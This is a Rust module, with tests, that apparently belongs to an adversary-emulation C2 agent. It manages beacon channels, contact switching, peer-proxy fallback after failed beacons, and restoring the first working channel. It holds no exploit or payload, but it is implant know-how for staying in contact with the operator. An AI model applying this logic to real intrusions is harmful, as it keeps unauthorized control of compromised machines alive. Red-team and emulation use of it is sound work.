use log::{info, warn};
use std::collections::HashMap;
use std::sync::Arc;

use super::Agent;
use crate::contact::{Contact, ContactConfig};
use crate::errors::{AgentError, Result};

pub fn channel_identifier(protocol: &str, address: &str) -> String {
    format!("{}-{}", protocol, address)
}

/// Binding of (protocol, address, key) to a contact handle. Channels live in
/// the validated cache once accepted and are only torn down with the agent.
#[derive(Clone)]
pub struct CommsChannel {
    pub protocol: String,
    pub address: String,
    pub key: String,
    pub contact: Arc<dyn Contact>,
    pub validated: bool,
}

impl CommsChannel {
    pub fn identifier(&self) -> String {
        channel_identifier(&self.protocol, &self.address)
    }

    pub fn config(&self, http_proxy_gateway: &str) -> ContactConfig {
        ContactConfig::new(&self.address, &self.protocol, &self.key, http_proxy_gateway)
    }

    pub fn contact_name(&self) -> String {
        self.contact.get_name()
    }
}

/// A channel that earned at least one successful beacon; enough to rebuild
/// it later.
#[derive(Debug, Clone, PartialEq)]
pub struct ChannelRecord {
    pub identifier: String,
    pub server: String,
    pub protocol: String,
    pub key: String,
}

impl Agent {
    /// Establishes the channel named by the C2 configuration. Any failure
    /// here sends the caller to peer-proxy fallback.
    pub async fn set_initial_comms_channel(&mut self) -> Result<()> {
        if self.contacts.is_empty() {
            return Err(AgentError::NoContactsRegistered);
        }
        let protocol = self.c2_config.c2_name.clone();
        if protocol.is_empty() {
            return Err(AgentError::ContactUnknown(String::new()));
        }
        let key = self.c2_config.c2_key.clone();
        let server = self.profile.server.clone();
        self.validate_and_set_comms_channel(&server, &protocol, &key)
            .await
    }

    /// Returns the cached channel for (protocol, address), or builds a new
    /// unvalidated one bound to the named contact.
    pub fn get_or_create_channel(
        &mut self,
        server: &str,
        protocol: &str,
        key: &str,
    ) -> Result<CommsChannel> {
        let identifier = channel_identifier(protocol, server);
        if let Some(channel) = self.validated_channels.get(&identifier) {
            return Ok(channel.clone());
        }
        let contact = self.contacts.get_by_name(protocol)?;
        info!("Initialized comms channel using c2 contact {}", protocol);
        Ok(CommsChannel {
            protocol: protocol.to_string(),
            address: server.to_string(),
            key: key.to_string(),
            contact,
            validated: false,
        })
    }

    /// Checks contact requirements against the current full profile and, on
    /// acceptance only, applies requested modifications and makes the
    /// channel current.
    pub async fn validate_and_set_comms_channel(
        &mut self,
        server: &str,
        protocol: &str,
        key: &str,
    ) -> Result<()> {
        let mut channel = self.get_or_create_channel(server, protocol, key)?;
        info!("Attempting to validate channel {}", channel.protocol);
        let config = channel.config(&self.c2_config.http_proxy_gateway);
        let (valid, modifications) = channel
            .contact
            .c2_requirements_met(&self.profile.full(), &config);
        if !valid {
            return Err(AgentError::RequirementsNotMet {
                protocol: channel.protocol,
                address: channel.address,
            });
        }
        channel.validated = true;
        self.validated_channels
            .insert(channel.identifier(), channel.clone());
        if let Some(modifications) = modifications {
            self.apply_profile_modifications(&modifications).await;
        }
        self.set_comms_channel(channel).await;
        Ok(())
    }

    async fn set_comms_channel(&mut self, channel: CommsChannel) {
        // While a tunnel is up it owns the upstream routing; otherwise the
        // contact talks straight to the channel address.
        if self.using_tunnel {
            if let Some(tunnel) = &self.tunnel {
                channel.contact.set_upstream_dest_addr(&tunnel.get_local_addr());
            }
        } else {
            channel.contact.set_upstream_dest_addr(&channel.address);
        }
        self.profile.contact = channel.contact_name();
        for receiver in &self.local_receivers {
            receiver.update_upstream_coms(channel.contact.clone()).await;
            receiver.update_upstream_server(&channel.address).await;
        }
        info!("Set communication channel to {}", channel.protocol);
        self.current_channel = Some(channel);
    }

    pub(crate) async fn apply_profile_modifications(
        &mut self,
        modifications: &HashMap<String, String>,
    ) {
        self.profile.modify(modifications);
        if let Some(paw) = modifications.get("paw") {
            for receiver in &self.local_receivers {
                receiver.update_agent_paw(paw).await;
            }
        }
    }

    /// Switches contact while keeping the current address; an empty new key
    /// keeps the current one.
    pub async fn switch_c2_contact(&mut self, new_contact: &str, new_key: &str) -> Result<()> {
        let key = if new_key.is_empty() {
            self.current_key()
        } else {
            new_key.to_string()
        };
        let server = self.current_server();
        self.validate_and_set_comms_channel(&server, new_contact, &key)
            .await
    }

    /// Records the current channel in the success history (no duplicates)
    /// and pins the first success as the fallback anchor.
    pub fn mark_current_successful(&mut self) {
        let Some(channel) = &self.current_channel else {
            return;
        };
        let record = ChannelRecord {
            identifier: channel.identifier(),
            server: channel.address.clone(),
            protocol: channel.protocol.clone(),
            key: channel.key.clone(),
        };
        if self.first_successful.is_none() {
            self.first_successful = Some(record.clone());
        }
        if !self
            .successful_channels
            .iter()
            .any(|existing| existing.identifier == record.identifier)
        {
            self.successful_channels.push(record);
        }
    }

    /// Counts a dead beacon. At the threshold the counter resets and the
    /// agent tries to ride a peer receiver instead. `Ok(true)` means a
    /// switch happened and the caller should beacon again immediately.
    /// Switch errors propagate so the caller can tell a pool that was
    /// recycled or incompatible (retry later) from one that never held a
    /// peer at all.
    pub async fn handle_beacon_failure(&mut self) -> Result<bool> {
        self.failed_beacon_counter += 1;
        if self.failed_beacon_counter >= super::BEACON_FAILURE_THRESHOLD {
            self.failed_beacon_counter = 0;
            warn!("Reached beacon failure threshold. Attempting to switch to a peer receiver.");
            self.switch_to_first_available_peer().await?;
            return Ok(true);
        }
        Ok(false)
    }

    pub fn has_successful_channel(&self) -> bool {
        self.first_successful.is_some()
    }

    /// Re-validates the first channel that ever worked. Best effort; the
    /// beacon loop keeps going either way.
    pub async fn restore_first_successful_channel(&mut self) {
        let Some(record) = self.first_successful.clone() else {
            return;
        };
        info!(
            "Restoring first successful channel {} at {}",
            record.protocol, record.server
        );
        if let Err(e) = self
            .validate_and_set_comms_channel(&record.server, &record.protocol, &record.key)
            .await
        {
            warn!("Could not restore channel {}: {}", record.identifier, e);
        }
    }

    // Getters.

    pub fn current_contact(&self) -> Option<Arc<dyn Contact>> {
        self.current_channel.as_ref().map(|c| c.contact.clone())
    }

    pub fn current_contact_name(&self) -> String {
        self.current_channel
            .as_ref()
            .map(|c| c.contact_name())
            .unwrap_or_default()
    }

    pub fn current_server(&self) -> String {
        self.current_channel
            .as_ref()
            .map(|c| c.address.clone())
            .unwrap_or_else(|| self.profile.server.clone())
    }

    pub fn current_key(&self) -> String {
        self.current_channel
            .as_ref()
            .map(|c| c.key.clone())
            .unwrap_or_else(|| self.c2_config.c2_key.clone())
    }

    pub fn current_protocol(&self) -> String {
        self.current_channel
            .as_ref()
            .map(|c| c.protocol.clone())
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::contact::ContactRegistry;
    use crate::testutil::{build_agent as test_agent, default_options, http_registry, MockContact};

    #[tokio::test]
    async fn initial_channel_is_validated_and_cached() {
        let (mock, contacts) = http_registry();
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        agent.set_initial_comms_channel().await.unwrap();
        assert_eq!(agent.current_contact_name(), "HTTP");
        assert_eq!(agent.current_server(), "http://c2:8888");
        assert_eq!(agent.profile.contact, "HTTP");
        assert!(agent
            .validated_channels
            .contains_key(&channel_identifier("HTTP", "http://c2:8888")));
        assert_eq!(mock.validation_count(), 1);
        // The contact was pointed at the channel address.
        assert_eq!(
            mock.upstream_addresses().last().unwrap(),
            "http://c2:8888"
        );
    }

    #[tokio::test]
    async fn unknown_contact_name_is_rejected() {
        let (_, contacts) = http_registry();
        let mut options = default_options("http://c2:8888");
        options.c2.c2_name = "DNS".to_string();
        let mut agent = test_agent(contacts, options);

        assert!(matches!(
            agent.set_initial_comms_channel().await,
            Err(AgentError::ContactUnknown(name)) if name == "DNS"
        ));
        assert!(agent.current_channel.is_none());
    }

    #[tokio::test]
    async fn empty_registry_is_fatal_for_channel_setup() {
        let mut agent = test_agent(
            ContactRegistry::new(),
            default_options("http://c2:8888"),
        );
        assert!(matches!(
            agent.set_initial_comms_channel().await,
            Err(AgentError::NoContactsRegistered)
        ));
    }

    #[tokio::test]
    async fn rejection_leaves_no_current_channel() {
        let (mock, contacts) = http_registry();
        mock.set_accept(false);
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        assert!(matches!(
            agent.set_initial_comms_channel().await,
            Err(AgentError::RequirementsNotMet { .. })
        ));
        assert!(agent.current_channel.is_none());
        assert!(agent.validated_channels.is_empty());
    }

    #[tokio::test]
    async fn modifications_apply_only_on_acceptance() {
        let (mock, contacts) = http_registry();
        let mut mods = HashMap::new();
        mods.insert("paw".to_string(), "issued-paw".to_string());
        mock.set_modifications(mods);
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        agent.set_initial_comms_channel().await.unwrap();
        assert_eq!(agent.profile.paw, "issued-paw");
    }

    #[tokio::test]
    async fn switch_contact_keeps_address_and_key() {
        let (_, mut contacts) = http_registry();
        let dns = Arc::new(MockContact::new("DNS"));
        contacts.register(dns.clone());
        let mut options = default_options("http://c2:8888");
        options.c2.c2_key = "secret".to_string();
        let mut agent = test_agent(contacts, options);

        agent.set_initial_comms_channel().await.unwrap();
        agent.switch_c2_contact("DNS", "").await.unwrap();

        assert_eq!(agent.current_contact_name(), "DNS");
        assert_eq!(agent.current_server(), "http://c2:8888");
        assert_eq!(agent.current_key(), "secret");
        // The previous channel stays in the validated cache.
        assert!(agent
            .validated_channels
            .contains_key(&channel_identifier("HTTP", "http://c2:8888")));
        assert!(agent
            .validated_channels
            .contains_key(&channel_identifier("DNS", "http://c2:8888")));
    }

    #[tokio::test]
    async fn switch_to_unknown_contact_keeps_current() {
        let (_, contacts) = http_registry();
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));
        agent.set_initial_comms_channel().await.unwrap();

        assert!(agent.switch_c2_contact("SMB", "").await.is_err());
        assert_eq!(agent.current_contact_name(), "HTTP");
    }

    #[tokio::test]
    async fn success_history_dedups_and_pins_first() {
        let (_, mut contacts) = http_registry();
        contacts.register(Arc::new(MockContact::new("DNS")));
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        agent.set_initial_comms_channel().await.unwrap();
        agent.mark_current_successful();
        agent.mark_current_successful();
        assert_eq!(agent.successful_channels.len(), 1);

        agent.switch_c2_contact("DNS", "").await.unwrap();
        agent.mark_current_successful();
        assert_eq!(agent.successful_channels.len(), 2);
        let first = agent.first_successful.clone().unwrap();
        assert_eq!(first.protocol, "HTTP");
        assert_eq!(first.server, "http://c2:8888");
    }

    #[tokio::test]
    async fn failure_counter_wraps_at_threshold() {
        let (_, contacts) = http_registry();
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        assert!(!agent.handle_beacon_failure().await.unwrap());
        assert!(!agent.handle_beacon_failure().await.unwrap());
        assert_eq!(agent.failed_beacon_counter, 2);
        // Threshold reached: counter resets, and with no peers at all the
        // switch reports NoPeersAvailable.
        assert!(matches!(
            agent.handle_beacon_failure().await,
            Err(AgentError::NoPeersAvailable)
        ));
        assert_eq!(agent.failed_beacon_counter, 0);
    }

    #[tokio::test]
    async fn restore_revalidates_the_first_successful_channel() {
        let (_, mut contacts) = http_registry();
        let dns = Arc::new(MockContact::new("DNS"));
        contacts.register(dns);
        let mut agent = test_agent(contacts, default_options("http://c2:8888"));

        agent.set_initial_comms_channel().await.unwrap();
        agent.mark_current_successful();
        agent.switch_c2_contact("DNS", "").await.unwrap();
        assert_eq!(agent.current_contact_name(), "DNS");

        agent.restore_first_successful_channel().await;
        assert_eq!(agent.current_contact_name(), "HTTP");
        assert_eq!(agent.current_server(), "http://c2:8888");
    }
}
